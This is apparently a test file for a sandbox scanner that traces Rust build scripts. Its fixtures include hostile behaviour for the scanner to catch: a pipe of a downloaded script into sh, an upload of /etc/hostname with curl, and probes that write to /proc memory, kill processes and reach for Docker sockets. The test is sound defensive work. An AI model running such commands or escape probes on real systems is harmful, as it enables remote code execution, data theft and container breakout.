import { expect, test } from 'vitest';
import type { EvidenceData, EvidenceKind, EvidenceOfKind } from '../../src/model/evidence.ts';
import type { Report } from '../../src/model/report.ts';
import { lossless } from '../../src/sandbox/sensors/trace/values.ts';
import { hostileString, numbersFrom } from '../support/hostile-strings.ts';
import { scanScript } from '../support/scan-script.ts';

function piecesOf<Kind extends EvidenceKind>(report: Report, kind: Kind): EvidenceOfKind<Kind>[] {
  return report.evidence.filter((piece): piece is EvidenceOfKind<Kind> => piece.kind === kind);
}
function dataOf<Kind extends EvidenceKind>(report: Report, kind: Kind): EvidenceData<Kind>[] {
  return piecesOf(report, kind).map(({ data }) => data as EvidenceData<Kind>);
}
const gapsOf = (report: Report) => dataOf(report, 'sensor-gap').map(({ sensor, detail }) => `${sensor}: ${detail}`);
const bytesLiteral = (bytes: Buffer) =>
  `b"${[...bytes].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}"`;

test('programs and files with hostile names are told as they are, by the real tracer', async () => {
  const next = numbersFrom(7);
  const strings = Array.from({ length: 120 }, () => hostileString(next, true).subarray(0, 200));
  const long = Buffer.alloc(100_000, 'x\n');
  const build = `use std::os::unix::ffi::OsStrExt;
use std::process::Command;

const STRINGS: &[&[u8]] = &[${strings.map(bytesLiteral).join(', ')}];

fn text(bytes: &[u8]) -> &std::ffi::OsStr {
    std::ffi::OsStr::from_bytes(bytes)
}

fn main() {
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    let _ = std::fs::create_dir(home.join("inert"));
    for (at, bytes) in STRINGS.iter().enumerate() {
        let _ = Command::new("/usr/bin/true").arg(at.to_string()).arg(text(bytes)).status();
        let name: Vec<u8> = bytes.iter().map(|b| if *b == b'/' { b'_' } else { *b }).collect();
        let mut file = format!("f{at}").into_bytes();
        file.extend(name);
        let path = home.join("inert").join(text(&file));
        let _ = std::fs::write(&path, "");
        let _ = std::fs::remove_file(&path);
        let _ = Command::new(&path).arg(at.to_string()).status();
    }
    let _ = Command::new("/usr/bin/true").arg("long").arg(text(&vec![b"x\\n".to_vec(); 50_000].concat())).status();
    let _ = Command::new("/usr/bin/true").arg("many").args((0..30_000).map(|n| n.to_string())).status();
}
`;
  const report = await scanScript(build);
  expect(gapsOf(report)).toEqual([]);
  const ran = dataOf(report, 'process-exec').filter(({ program }) => program === '/usr/bin/true');
  const told = new Map(ran.map(({ arguments: [, key = '', value = ''] }) => [key, value]));
  strings.forEach((bytes, at) => {
    expect(told.get(String(at)), `argument ${at}`).toBe(lossless(bytes));
  });
  expect(told.get('long')).toBe(`${long.subarray(0, 16_384).toString()}…`);
  const many = ran.find(({ arguments: [, key] }) => key === 'many')?.arguments ?? [];
  expect(many.at(-1)).toMatch(/^…/);
  const names = strings.map((bytes, at) => {
    const name = Buffer.from(bytes.map((byte) => (byte === 0x2f ? 0x5f : byte)));
    return `/home/dev/inert/${lossless(Buffer.concat([Buffer.from(`f${at}`), name]))}`;
  });
  const short = names.filter((_, at) => (strings[at]?.length ?? 0) < 200);
  const written = new Set(
    dataOf(report, 'file-write').flatMap(({ path, operation }) => (operation === 'create' ? [path] : [])),
  );
  expect(short.filter((name) => !written.has(name))).toEqual([]);
  expect([...written].filter((path) => path.startsWith('/home/dev/inert/f') && !names.includes(path))).toEqual([]);
});

test('nothing in the cage reaches a sensor: its processes, files, sockets and ports', async () => {
  const build = `use std::io::{Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixStream};
use std::process::Command;
use std::time::Duration;

fn main() {
    let own = std::process::id();
    let parents: Vec<u32> = {
        let mut all = vec![own, 1];
        let mut at = own;
        while at > 1 {
            let stat = std::fs::read_to_string(format!("/proc/{at}/stat")).unwrap_or_default();
            at = stat.rsplit(')').next().and_then(|rest| rest.split_whitespace().nth(1)?.parse().ok()).unwrap_or(1);
            all.push(at);
        }
        all
    };
    let mut seen = 0;
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else { continue };
        seen += 1;
        for name in ["mem", "fd/0", "fd/1", "fd/2", "oom_score_adj"] {
            if let Ok(mut file) = std::fs::OpenOptions::new().write(true).open(format!("/proc/{pid}/{name}")) {
                if name == "fd/1" || name == "fd/2" { let _ = file.write_all(b"\\x00\\x00\\x00\\x0e{\\"type\\":\\"end\\"}"); }
            }
        }
        if !parents.contains(&pid) {
            let _ = Command::new("/bin/kill").args(["-9", &pid.to_string()]).status();
        }
    }
    let tracer = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    assert!(tracer.contains("TracerPid:\\t0"), "the tracer shows itself");
    assert!(seen < 20, "processes of others show themselves");
    for line in std::fs::read_to_string("/proc/net/unix").unwrap_or_default().lines() {
        if let Some(name) = line.split('@').nth(1) {
            if let Ok(address) = SocketAddr::from_abstract_name(name) {
                let _ = UnixStream::connect_addr(&address).and_then(|mut socket| socket.write_all(b"x"));
            }
        }
    }
    for port in [53u16, 631, 2375, 2376, 41641] {
        if let Ok(mut stream) = TcpStream::connect_timeout(&([127, 0, 0, 1], port).into(), Duration::from_secs(1)) {
            let _ = stream.write_all(b"\\x00\\x00\\x00\\x0e{\\"type\\":\\"end\\"}");
            let _ = stream.set_read_timeout(Some(Duration::from_millis(300)));
            let _ = stream.read(&mut [0; 64]);
        }
        if let Ok(socket) = UdpSocket::bind("127.0.0.1:0") {
            let _ = socket.send_to(b"{\\"type\\":\\"end\\"}", ("127.0.0.1", port));
        }
    }
    for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"] {
        let _ = UnixStream::connect(path);
    }
    let _ = Command::new("/usr/bin/true").arg("still-seen").status();
}
`;
  const report = await scanScript(build);
  expect(gapsOf(report)).toEqual([]);
  expect(report.coverage.find(({ stage }) => stage === 'build')).toMatchObject({ state: 'complete' });
  expect(report.coverage.find(({ stage }) => stage === 'sensors')).toMatchObject({ state: 'complete' });
  const ran = dataOf(report, 'process-exec').flatMap(({ arguments: words }) => words);
  expect(ran).toContain('still-seen');
});

/** Clients that an ordinary machine has, each speaking to the outside in its own way. */
const CLIENTS = `
curl -sS -m 8 https://one.test/config.json -o /dev/null
curl -sS -m 8 --http1.1 -T /etc/hostname https://two.test/up
curl -sS -m 8 --http2-prior-knowledge http://three.test/run.sh | sh
curl -sS -m 8 'https://[2001:db8:77::5]/six' -k -o /dev/null
python3 - <<'PY'
import socket, ssl, smtplib, struct
def udp(family, to, data, wait=True):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(data, to)
    return s.recv(512) if wait else None
def name(text): return b''.join(bytes([len(l)]) + l for l in text.encode().split(b'.')) + b'\\0'
def ask(text, kind): return b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + name(text) + struct.pack('>HH', kind, 1)
assert len(udp(socket.AF_INET, ('192.0.2.123', 123), b'\\x23' + b'\\0' * 47)) == 48
for kind in (1, 28, 16, 15, 33, 65): assert len(udp(socket.AF_INET, ('192.0.2.53', 53), ask('kind%d.test' % kind, kind))) > 30
assert udp(socket.AF_INET6, ('2001:db8:53::1', 53), ask('six.test', 28))
udp(socket.AF_INET, ('192.0.2.99', 9999), b'plain datagram', False)
udp(socket.AF_INET6, ('2001:db8:99::1', 9998), b'six datagram', False)
bound = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); bound.bind(('10.1.2.3', 0))
for port in (7001, 7002): bound.sendto(b'from one port', ('192.0.2.98', port))
mail = smtplib.SMTP('mail.test', 587, timeout=8)
mail.starttls(context=ssl.create_default_context())
mail.sendmail('a@here.test', 'b@there.test', 'the letter')
mail.quit()
raw = ssl.create_default_context().wrap_socket(socket.create_connection(('raw.test', 8443), 8), server_hostname='raw.test')
raw.sendall(b'raw in tls'); raw.close()
PY
`;

test('the false internet answers and hears, each word with its process, and both sensors agree', async () => {
  const build = `fn main() {
    let done = std::process::Command::new("bash").args(["-c", include_str!("clients.sh")]).status().unwrap();
    assert!(done.success());
}
`;
  const report = await scanScript(build, { 'clients.sh': `set -e${CLIENTS}` });
  expect(gapsOf(report)).toEqual([]);
  expect(report.coverage.find(({ stage }) => stage === 'build')).toMatchObject({ state: 'complete' });
  const requests = piecesOf(report, 'http-request').map(({ at, data }) => ({
    what: `${data.scheme} ${data.version} ${data.method} ${data.host}${data.path} ${data.answer}`,
    by: 'process' in at ? at.process.at(-1) : '',
  }));
  expect(requests).toEqual(
    expect.arrayContaining([
      { what: 'https 2 GET one.test/config.json json', by: 'curl' },
      { what: 'https 1.1 PUT two.test/up redirect', by: 'curl' },
      { what: 'http 2 GET three.test/run.sh script', by: 'curl' },
      { what: 'https 2 GET [2001:db8:77::5]/six script', by: 'curl' },
    ]),
  );
  const names = dataOf(report, 'dns-query').map(({ name, type, server }) => `${name} ${type} ${server}`);
  expect(names).toEqual(
    expect.arrayContaining([
      'kind1.test A 192.0.2.53',
      'kind28.test AAAA 192.0.2.53',
      'kind16.test TXT 192.0.2.53',
      'kind15.test MX 192.0.2.53',
      'kind33.test SRV 192.0.2.53',
      'kind65.test HTTPS 192.0.2.53',
      'six.test AAAA 2001:db8:53::1',
    ]),
  );
  const datagrams = dataOf(report, 'datagram').map(({ address, port, bytes }) => `${address} ${port} ${bytes}`);
  expect(datagrams.sort()).toEqual([
    '192.0.2.123 123 48',
    '192.0.2.98 7001 13',
    '192.0.2.98 7002 13',
    '192.0.2.99 9999 14',
    '2001:db8:99::1 9998 12',
  ]);
  const hellos = dataOf(report, 'tls-hello').map(
    ({ serverName, chain, outcome }) => `${serverName} ${chain} ${outcome}`,
  );
  expect(hellos).toEqual(
    expect.arrayContaining([
      'one.test trusted accepted',
      'mail.test trusted accepted',
      'raw.test trusted accepted',
      ' untrusted accepted',
    ]),
  );
  const connections = dataOf(report, 'network-connect').filter(({ transport }) => transport === 'tcp');
  expect(connections.filter(({ sensors }) => sensors.length !== 2)).toEqual([]);
  expect(connections.filter(({ bytesSent, bytesReceived = 0 }) => bytesSent === 0 || bytesReceived === 0)).toEqual([]);
  expect(report.signals.map(({ id }) => id)).toEqual(
    expect.arrayContaining(['downloaded-code-run', 'accepts-any-certificate', 'http-upload', 'datagram-sent']),
  );
});
